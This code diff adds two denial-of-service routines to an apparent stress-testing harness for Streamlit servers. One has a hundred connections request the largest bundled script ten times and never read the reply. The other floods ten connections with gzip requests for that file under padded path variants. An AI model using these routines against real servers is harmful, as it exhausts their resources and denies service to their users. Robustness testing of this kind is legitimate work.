@@ -21,6 +21,7 @@ from urllib.parse import quote, urlsplit
 
 sys.path.insert(0, str(Path(__file__).parents[2]))
 
+import streamlit
 from streamlit.proto.BackMsg_pb2 import BackMsg
 from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
 from streamlit.proto.WidgetStates_pb2 import WidgetState
@@ -350,6 +351,22 @@ def _many(address: str, until: float, sources: Sequence[str], sent: bytes, pause
             time.sleep(pause)
 
 
+def _asking(address: str, path: str, encoding: str = "identity") -> bytes:
+    lines = [f"GET {path} HTTP/1.1", f"Host: {urlsplit(address).netloc}", f"Accept-Encoding: {encoding}", "", ""]
+    return "\r\n".join(lines).encode()
+
+
+def _many_by_http(address: str, until: float, sent: bytes) -> None:
+    """Send the same on ten connections and read what comes, again and again."""
+    while time.monotonic() < until:
+        with ExitStack() as stack, suppress(OSError):
+            opened = [stack.enter_context(connected(address, seconds=1)) for _ in range(10)]
+            for one in opened:
+                one.sendall(sent)
+            while time.monotonic() < until and all(one.recv(1_000_000) for one in opened):
+                pass
+
+
 def _held(address: str, until: float, sources: Sequence[str], sent: bytes) -> None:
     """Open a connection from each address, send the same on each, and hold it."""
     while time.monotonic() < until:
@@ -360,6 +377,24 @@ def _held(address: str, until: float, sources: Sequence[str], sent: bytes) -> No
                 with suppress(OSError):
                     stack.enter_context(connected(address, source, seconds=1)).sendall(sent)
             time.sleep(1)
+
+
+def unread(address: str, until: float) -> None:
+    """A hundred connections ask for the largest file ten times each, and take nothing of it."""
+    _held(address, until, (STRANGER,) * 100, _asking(address, largest_file()) * 10)
+
+
+def in_other_forms(address: str, until: float) -> None:
+    """Ten connections ask for a large file by ever other forms of its path, compressed, as fast as it comes."""
+    asked = b"".join(_asking(address, f"/{'./' * number}{largest_file()[1:]}", "gzip") for number in range(1, 9))
+    _many_by_http(address, until, asked)
+
+
+def largest_file() -> str:
+    """The path of the largest script of a page."""
+    folder = Path(streamlit.__file__).parent / "static" / "static"
+    large = max(folder.rglob("*.js"), key=lambda file: file.stat().st_size)
+    return f"/static/{large.relative_to(folder)}"
 
 
 def everything(address: str, until: float) -> None:
@@ -386,6 +421,8 @@ ATTACKS: dict[str, Callable[[str, float], None]] = {
         crowd,
         crowded_halves,
         listeners,
+        unread,
+        in_other_forms,
         everything,
     )
 }
